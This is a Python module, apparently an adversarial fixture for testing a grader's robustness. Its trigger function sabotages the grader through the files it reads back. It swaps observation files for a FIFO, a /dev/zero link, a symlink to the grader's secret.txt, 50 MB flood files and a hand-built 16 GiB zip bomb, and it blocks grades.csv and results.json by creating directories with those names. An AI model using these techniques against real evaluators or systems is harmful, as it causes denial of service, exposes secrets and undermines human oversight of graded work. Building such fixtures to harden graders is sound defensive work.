# ruff: noqa: F821
"""Hurt the grader through the files it reads back: once our last function is called, our
observation files become a FIFO, a link to /dev/zero, an .npz zip bomb, a link to the
grader's secrets and a 50 MB message; the --out folder gets a directory named grades.csv."""

import os
import struct
import zlib


def zip_bomb(path, gib=16):
    """An .npz whose member inflates to ``gib`` GiB of float64 zeros, in a few MB on disk."""
    chunk = 64 << 20
    pieces = gib * (1 << 30) // chunk
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % (
        (pieces * chunk - 128) // 8
    )
    header = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + header.ljust(117) + b"\n"
    assert len(header) == 128
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = co.compress(header + bytes(chunk - len(header))) + co.flush(zlib.Z_FULL_FLUSH)
    zero = co.compress(bytes(chunk)) + co.flush(zlib.Z_FULL_FLUSH)
    data = first + zero * (pieces - 1) + co.flush(zlib.Z_FINISH)
    name = b"a0.npy"
    size = pieces * chunk
    extra = struct.pack("<HHQQ", 1, 16, size, len(data))
    local = struct.pack(
        "<IHHHHHIIIHH",
        0x04034B50,
        45,
        0,
        8,
        0,
        0x21,
        0,
        0xFFFFFFFF,
        0xFFFFFFFF,
        len(name),
        len(extra),
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0x21, 0, 0xFFFFFFFF, 0xFFFFFFFF,
        len(name), len(extra), 0, 0, 0, 0, 0,
    )  # fmt: skip
    body = local + name + extra + data
    cd = central + name + extra
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), len(body), 0)
    with open(path, "wb") as f:
        f.write(body + cd + end)


def _replace(path, how):
    try:
        if os.path.islink(path) or os.path.isfile(path):
            os.unlink(path)
        if how == "fifo":
            os.mkfifo(path)
        elif how == "zero":
            os.symlink("/dev/zero", path)
        elif how == "secret":
            os.symlink(os.path.join(P["home"], "secret.txt"), path)
        elif how == "bomb":
            zip_bomb(path)
        elif how == "huge":
            with open(path, "w") as f:
                f.write('{"missing": "' + "flood " * ((50 << 20) // 6) + '"}')
        elif how == "notes":
            with open(path, "w") as f:
                f.write("[" + ",".join(['"' + "note flood " * 100_000 + '"'] * 50) + "]")
    except OSError:
        pass


TRIGGERED = []


def trigger():
    """Called from our graded functions while the grader observes them."""
    if TRIGGERED:
        return
    TRIGGERED.append(True)
    mine, _ = observation_dirs()
    for d in sorted(mine):
        names = sorted(n for n in os.listdir(d) if not n.startswith("."))
        jsons = [n for n in names if n.endswith(".json") and n != "cells.json"]
        npzs = [n for n in names if n.endswith(".npz")]
        for name, how in zip(jsons, ["fifo", "zero", "secret", "huge"], strict=False):
            _replace(os.path.join(d, name), how)
        for name in npzs[:1]:
            _replace(os.path.join(d, name), "bomb")
        if "cells.json" in names:
            _replace(os.path.join(d, "cells.json"), "notes")
    for name in ("grades.csv", os.path.join(P["honest"][0], "results.json")):
        try:
            os.makedirs(os.path.join(P["out"], name))
            breach("break-out-folder", name)
        except OSError:
            pass
